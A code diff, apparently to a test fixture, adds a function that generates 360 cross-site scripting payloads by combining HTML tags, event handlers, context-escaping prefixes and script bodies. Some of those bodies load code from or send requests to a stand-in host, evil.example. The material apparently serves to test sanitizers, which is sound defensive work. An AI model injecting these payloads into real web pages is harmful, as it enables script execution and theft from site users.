@@ -75,3 +75,20 @@ ADDRESSES = [
     "#",
     "<script>window.__xss=1</script>",
 ]
+
+_RUNS = ("window.__xss=1", "alert(1)", "top.__xss=1", "import('//evil.example/x.js')", "fetch('//evil.example')")
+_TAGS = ("img", "svg", "body", "video", "audio", "input", "details", "marquee", "select", "iframe", "math", "object")
+_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
+_OPENINGS = ("", "</textarea>", "</style>", "-->", "]]>", '">', "'>")
+
+
+def spellings() -> list[str]:
+    """Every tag with every handler, breaking out of every context in turn: 360 strings that differ."""
+    made = []
+    for i, tag in enumerate(_TAGS):
+        for j, handler in enumerate(_HANDLERS):
+            for k, run in enumerate(_RUNS):
+                opening = _OPENINGS[(i + j + k) % len(_OPENINGS)]
+                slash = "/" if (i + k) % 2 else " "
+                made.append(f"{opening}<{tag}{slash}{handler}={run} src=x autofocus open>")
+    return made
